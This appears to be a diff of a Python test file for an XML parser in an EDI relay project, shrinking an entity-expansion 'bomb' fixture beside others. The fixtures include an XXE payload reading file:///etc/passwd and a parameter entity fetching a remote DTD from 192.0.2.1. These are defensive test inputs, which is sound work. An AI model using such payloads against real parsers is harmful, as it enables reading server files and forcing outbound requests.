@@ -10,7 +10,7 @@ from relayd.edi import xmltree
 from relayd.edi.model import Severity
 from relayd.edi.xmltree import MAX_DEPTH, MAX_NODES, Node, parse
 
-BOMB = b"""<?xml version="1.0"?><!-- a --><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>"""
+BOMB = b"""<?xml version="1.0"?><!-- a --><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>"""
 XXE = b"""<!DOCTYPE x PUBLIC "-//[//" 'file:///etc/passwd' [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>"""
 PARAMETER = b"""<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><x/>"""
 UNENDED = b"""<!DOCTYPE x "[<!ENTITY a 'b'><x>&a;</x>"""
